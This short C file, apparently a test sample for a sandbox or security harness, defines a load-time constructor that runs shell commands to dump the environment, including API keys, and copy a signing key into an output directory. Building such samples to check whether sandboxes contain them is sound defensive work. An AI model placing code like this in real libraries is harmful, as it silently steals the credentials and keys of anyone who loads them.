// Host code that runs the moment the library is loaded: a shell with the loader's rights.
// Unsandboxed it dumps the environment (API keys) and copies the signing key out.
#include <stdlib.h>

__attribute__((constructor)) static void hostile_constructor_system(void) {
    system("mkdir -p " HOSTILE_OUT " && env > " HOSTILE_OUT "/constructor_system.env"
           " && cat " HOSTILE_SECRET " > " HOSTILE_OUT "/constructor_system.key");
}
